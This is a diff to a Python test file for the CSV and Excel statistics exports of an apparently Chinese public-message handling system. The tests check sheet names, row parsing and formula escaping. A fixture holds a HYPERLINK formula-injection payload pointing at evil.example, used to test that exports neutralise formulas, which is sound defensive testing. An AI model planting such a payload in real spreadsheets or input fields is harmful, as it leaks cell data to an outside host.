@@ -7,6 +7,7 @@ import csv
 import datetime as dt
 import getpass
 import io
+import itertools
 import re
 
 import pytest
@@ -29,10 +30,17 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
 
 
-def _csv(response) -> list[list[str]]:
+def _csv(response, whole: bool = False) -> list[list[str]]:
+    """The rows of a CSV export: its data (header first) up to the first empty row, where the stacked 说明
+    begins (``exports.stacked_rows``, since 2026-12-06), as a program importing it reads it; ``whole``: every row."""
     assert isinstance(response, StreamingHttpResponse)
     text = b"".join(response.streaming_content).decode("utf-8-sig")
-    return list(csv.reader(io.StringIO(text)))
+    return list(csv.reader(io.StringIO(text))) if whole else data_rows(csv.reader(io.StringIO(text)))
+
+
+def data_rows(rows) -> list[list[str]]:
+    """A stacked CSV's first sheet: its rows up to the first empty one."""
+    return list(itertools.takewhile(bool, rows))
 
 
 def _exports():
@@ -242,7 +250,7 @@ def test_table_and_campaign_exports_write_formula_names_as_text_and_numbers_as_n
     assert ["'-城关区", "1"] == rows[1][:2]
     wb = load_workbook(io.BytesIO(client.get("/stats/campaigns/c1/report.xlsx").content))
     assert _no_formulas(wb)["=1+1"] == "s"
-    assert ["活动", "'=1+1"] in _csv(client.get("/stats/campaigns/c1/report.csv"))
+    assert ["活动", "'=1+1"] in _csv(client.get("/stats/campaigns/c1/report.csv"), whole=True)
 
 
 def test_export_command_writes_a_formula_title_as_text(formula_message, tmp_path, capsys):
@@ -250,7 +258,7 @@ def test_export_command_writes_a_formula_title_as_text(formula_message, tmp_path
     call_command("export_stats", "messages", "--region", "620102", "--format", "xlsx", "-o", str(out))
     assert _no_formulas(load_workbook(out))[formula_message.public_title] == "s"
     call_command("export_stats", "messages", "--region", "620102")
-    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    rows = data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))
     assert rows[1][1] == "'" + formula_message.public_title
 
 
@@ -261,7 +269,7 @@ def test_statistics_table_exports(client, cases):
     assert int(by_label["兰州市"][1]) == figures.compute(region="620100")["received"]
     response = client.get("/stats/export/table.xlsx", {"by": "unit"})
     wb = load_workbook(io.BytesIO(response.content))
-    assert wb.sheetnames == ["按办理单位", "合计"]
+    assert wb.sheetnames == ["按办理单位", "合计", "说明"]
     names = [r[0] for r in wb["按办理单位"].iter_rows(min_row=2, values_only=True)]
     assert "兰州市生态环境局" in names
 
@@ -275,7 +283,7 @@ def test_campaign_report_exports(client, cases, directory):
     summary = {r[0]: r[1] for r in wb["汇总"].iter_rows(min_row=2, values_only=True)}
     assert summary["受理"] == figures.compute(campaign="c1")["received"]
     assert "共收到群众留言" in summary["公告"]
-    rows = _csv(client.get("/stats/campaigns/c1/report.csv"))
+    rows = _csv(client.get("/stats/campaigns/c1/report.csv"), whole=True)
     assert any(r and r[0] == "按区划" for r in rows)
 
 
@@ -284,14 +292,17 @@ def test_the_command_writes_the_same_sheets_as_the_web(client, cases, directory,
     today = timezone.localdate()
     Campaign.objects.create(slug="c1", name="我为群众办实事", start=today - dt.timedelta(days=90), end=today)
     for what, url, extra in [("campaign", "/stats/campaigns/c1/report.xlsx", ["--campaign", "c1"]),
-                             ("table", "/stats/export/table.xlsx?by=topic", ["--by", "topic"])]:
+                             ("table", "/stats/export/table.xlsx?by=topic&region=620000",
+                              ["--by", "topic", "--region", "620000"])]:
         out = tmp_path / f"{what}.xlsx"
         call_command("export_stats", what, *extra, "--format", "xlsx", "-o", str(out))
         web = load_workbook(io.BytesIO(client.get(url).content))
         cli = load_workbook(out)
         assert cli.sheetnames == web.sheetnames
         for name in web.sheetnames:
-            assert list(cli[name].values) == list(web[name].values)
+            # 说明 (a table's) alike but for the minute each was counted at
+            assert ([r for r in cli[name].values if r[0] != "统计截至"]
+                    == [r for r in web[name].values if r[0] != "统计截至"])
     assert load_workbook(tmp_path / "table.xlsx")["按领域"]["A1"].value == "领域"  # not the option's English name
 
 
@@ -397,7 +408,7 @@ def test_an_overdue_export_says_how_late_each_case_is_as_its_list_does(login, pe
     # the other lists keep their columns; the command writes the same column
     assert "超期天数 (工作日)" not in _csv(sup.get("/stats/export/messages.csv", {"region": "620100"}))[0]
     call_command("export_stats", "messages", "--measure", "overdue", "--region", "620100")
-    out = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    out = data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))
     assert out[0] == exports.message_header(False, late=True) and {r[0]: r[8] for r in out[1:]} == late
 
 
@@ -423,7 +434,7 @@ def test_an_overdue_export_lists_the_cases_in_the_order_of_its_list(login, perso
         assert [r[0] for r in _csv(sup.get(link))[1:]] == listed
     assert listed == [later.public_id, late.public_id]  # dir=asc: the least overdue first
     call_command("export_stats", "messages", "--measure", "overdue", "--region", "620100")
-    out = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    out = data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))
     assert [r[0] for r in out[1:]] == [late.public_id, later.public_id]
 
 
@@ -535,13 +546,13 @@ def test_the_commands_take_the_pages_own_level_and_unit_filters(client, login, p
         assert figures_cli == client.get("/api/v1/statistics/", web).json()
         listed = [r[0] for r in _csv(sup.get("/stats/export/messages.csv", {**web, "measure": "received"}))]
         call_command("export_stats", "messages", *cli)
-        assert [r[0] for r in csv.reader(io.StringIO(capsys.readouterr().out))] == listed
+        assert [r[0] for r in data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))] == listed
         table = _csv(sup.get("/stats/export/table.csv", {**web, "by": "topic"}))
         call_command("export_stats", "table", "--by", "topic", *cli)
         assert list(csv.reader(io.StringIO(capsys.readouterr().out)))[:len(table)] == table
     # the own-level list is the city's own cases, fewer than the whole city's
     call_command("export_stats", "messages", "--region", "620100")
-    city = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    city = data_rows(csv.reader(io.StringIO(capsys.readouterr().out)))
     assert 1 < len(listed) and len(_csv(sup.get("/stats/export/messages.csv", {"region": "620100", "own": "1"}))) < len(city)
     # the audit row of a personal export names the filters it was made with
     call_command("export_stats", "messages", "--personal", "--region", "620100", "--own", "--from", "2020-01-01")
@@ -594,7 +605,7 @@ def test_an_export_is_saved_under_a_chinese_name_saying_what_it_lists(login, per
     sup = login(personas["supervisor"])
     late = sup.get("/stats/export/messages.xlsx", {"region": "620100", "measure": "overdue"})
     assert re.fullmatch(r"超期未答复-\d{12}\.xlsx", _saved_as(late)), _saved_as(late)
-    assert load_workbook(io.BytesIO(late.content)).sheetnames == ["超期未答复"]
+    assert load_workbook(io.BytesIO(late.content)).sheetnames == ["超期未答复", "说明"]
     personal = sup.get("/stats/export/messages.csv", {"region": "620100", "measure": "overdue", "personal": "1"})
     assert re.fullmatch(r"超期未答复-\d{12}-含联系方式\.csv", _saved_as(personal)), _saved_as(personal)
     replied = sup.get("/stats/export/messages.csv", {"region": "620100", "measure": "replied"})
